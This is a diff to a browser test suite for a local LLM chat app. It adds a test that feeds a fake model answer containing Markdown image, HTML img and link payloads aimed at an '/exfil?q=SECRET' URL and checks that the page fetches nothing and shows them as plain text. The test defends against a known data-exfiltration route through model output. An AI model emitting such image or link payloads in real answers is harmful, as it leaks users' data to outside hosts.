@@ -2,7 +2,8 @@
 
 Flows: a chat reply streams; a document is uploaded and listed; a question gets an answer with
 a citation; the agent shows a tool step; two browser sessions at once keep their own
-histories. Screenshots are saved for each flow, and the chat flow measures the time from
+histories; an image link in the model's answer is not fetched and the server-path boxes are
+hidden (issue 13). Screenshots are saved for each flow, and the chat flow measures the time from
 pressing send to the first token on screen against the model's own time to first token
 (written to ``test-artifacts/browser/first_token.json``; a figure, not an assertion).
 """
@@ -214,3 +215,51 @@ def test_agent_shows_its_tool_step(page: Any) -> None:
     assert '"from_unit"' in body and ("Result" in body or "Error" in body), body
     assert answer.strip()
     shot(page, "agent", focus=step)
+
+
+def test_an_image_in_the_answer_is_not_fetched_and_server_paths_are_hidden(
+    browser: Any, tmp_path: Path, httpserver: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A fake Ollama (loopback) answers with image Markdown pointing back at itself; it counts fetches."""
+    from unit import test_ollama_wire
+    from unit.test_ollama_wire import FakeOllama
+    from werkzeug import Response
+
+    fake = FakeOllama(httpserver)
+    exfil = f"{fake.url}/exfil?q=SECRET"
+    monkeypatch.setattr(
+        test_ollama_wire,
+        "ANSWER_PARTS",
+        ["Here is the chart: ", f"![chart]({exfil}) and ", f'<img src="{exfil}"> ', f"[more]({exfil})."],
+    )
+    httpserver.expect_request("/exfil").respond_with_handler(lambda request: Response(b"", status=204))
+    env = {"LLAMA_TOOLKIT_BACKEND": "ollama", "LLAMA_TOOLKIT_MODEL": "llama3.2", "OLLAMA_HOST": fake.url}
+    with streamlit_server(tmp_path / "data", ARTIFACTS / "streamlit-exfil.log", env) as url:
+        context = browser.new_context(viewport={"width": 1280, "height": 900})
+        page = context.new_page()
+        page.set_default_timeout(60_000)
+        page.goto(url)
+        send(page, "Show me the chart.")
+        answer = wait_for_answer(page, 1)
+        text = answer.locator('[data-testid="stMarkdownContainer"]').first
+        page.wait_for_timeout(1000)  # time for any fetch the page would make
+        shown = text.inner_text()
+        fetched = [entry for entry in httpserver.log if entry[0].path == "/exfil"]
+        images = text.locator("img").count()
+        links = text.locator("a").count()
+        shot(page, "no-image-fetch", focus=answer)
+        go(page, "Documents")
+        page.get_by_text("Upload files").first.wait_for()
+        path_boxes = page.get_by_label("Or a folder on this machine").count()
+        context.close()
+    summary = {
+        "exfil_requests": len(fetched),
+        "img_elements": images,
+        "a_elements": links,
+        "path_boxes": path_boxes,
+    }
+    (ARTIFACTS / "no_image_fetch.json").write_text(json.dumps(summary))
+    print(f"\nimage link in the answer: {summary}")
+    assert fetched == [] and images == 0 and links == 0, summary
+    assert "image: chart" in shown and "/exfil?q=SECRET" in shown, shown  # shown as text instead
+    assert path_boxes == 0, summary
